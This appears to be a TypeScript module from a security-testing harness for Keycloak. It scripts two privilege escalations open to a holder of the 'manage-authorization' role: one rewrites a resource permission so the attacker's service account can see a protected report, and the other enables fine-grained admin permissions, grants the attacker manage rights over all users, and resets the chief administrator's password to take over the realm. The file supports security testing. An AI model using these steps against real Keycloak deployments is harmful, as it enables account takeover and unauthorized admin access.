import type { Attempt } from "../attempt.ts";
import type { Caller } from "../caller.ts";
import { proveRealmAdmin } from "../prove-realm-admin.ts";
import { Inapplicable, Refusal } from "../refusal.ts";
import { requestAccessToken, signInWithPassword } from "../request-token.ts";
import type { Scene } from "../scene.ts";

const roles = ["manage-authorization"];

/** An application whose report only the realm's administrator may see. */
async function makeApplication({ lab, chief }: Scene) {
  const client = await lab.create("/clients", {
    ...{ clientId: "application", serviceAccountsEnabled: true },
    authorizationServicesEnabled: true,
  });
  const server = `/clients/${client}/authz/resource-server`;
  const make = async (path: string, body: unknown): Promise<string> => {
    const made = JSON.parse((await lab.send("POST", `${server}${path}`, body)).text);
    return made._id ?? made.id;
  };
  const resource = await make("/resource", { name: "report" });
  const policy = await make("/policy/user", { name: "only chief", users: [chief.id] });
  const permission = { name: "reports", resources: [resource], policies: [policy] };
  const id = await make("/permission/resource", permission);
  return { server, permission: { ...permission, id } };
}

/** Makes a policy and returns its id. */
async function makePolicy(
  caller: Caller,
  server: string,
  type: "client" | "user",
  who: Readonly<Record<string, readonly string[]>>,
): Promise<string> {
  const path = `${server}/policy/${type}`;
  return JSON.parse((await caller.send("POST", path, { name: "only me", ...who })).text).id;
}

/** Lets the attacker see the application's report and looks whether it then may. */
export async function openApplication(scene: Scene): Promise<void> {
  const { attacker } = scene;
  const { caller } = attacker;
  const { server, permission } = await makeApplication(scene);
  const askForReport = () =>
    requestAccessToken(
      scene,
      {
        grant_type: "urn:ietf:params:oauth:grant-type:uma-ticket",
        ...{ audience: "application", permission: "report" },
      },
      caller.token,
    );
  const before = await askForReport().catch((error: unknown) => error);
  if (!(before instanceof Refusal)) throw new Error("The report is seen before anything is done.");
  // Policies know a service account by its client, not by its user.
  const policy = await makePolicy(caller, server, "client", { clients: [attacker.id] });
  const path = `${server}/permission/resource/${permission.id}`;
  await caller.send("PUT", path, { ...permission, policies: [policy] });
  await askForReport();
}

/** What changing authorization settings leads to. */
export const manageAuthorization: readonly Attempt[] = [
  { id: "open-application-to-itself", roles, harm: "high", attack: openApplication },
  {
    // Where fine-grained admin permissions are on, they are policies like those of applications.
    id: "give-itself-admin-permissions",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { lab, attacker, chief } = scene;
      const { caller } = attacker;
      await enableAdminPermissions(scene);
      const [client] = await lab.read<{ id: string }[]>("/clients?clientId=admin-permissions");
      const server = `/clients/${client?.id}/authz/resource-server`;
      const policy = await makePolicy(caller, server, "user", { users: [attacker.userId] });
      await caller.send("POST", `${server}/permission/scope`, {
        ...{ name: "all users", resourceType: "Users", policies: [policy] },
        scopes: ["view", "manage"],
      });
      const value = "chosen-by-the-attacker";
      const password = { type: "password", value };
      await caller.send("PUT", `/users/${chief.id}/reset-password`, password);
      await proveRealmAdmin(scene, await signInWithPassword(scene, chief.name, value));
    },
  },
];

/**
 * Turns on fine-grained admin permissions; throws Inapplicable when the server is older than them.
 *
 * @see [Fine-grained admin permissions](https://www.keycloak.org/docs/latest/server_admin/#_fine_grained_permissions)
 */
async function enableAdminPermissions({ lab }: Scene): Promise<void> {
  const name = "adminPermissionsEnabled";
  if (!(name in (await lab.read<object>("")))) {
    throw new Inapplicable("This Keycloak has no fine-grained admin permissions.");
  }
  await lab.send("PUT", "", { [name]: true });
}
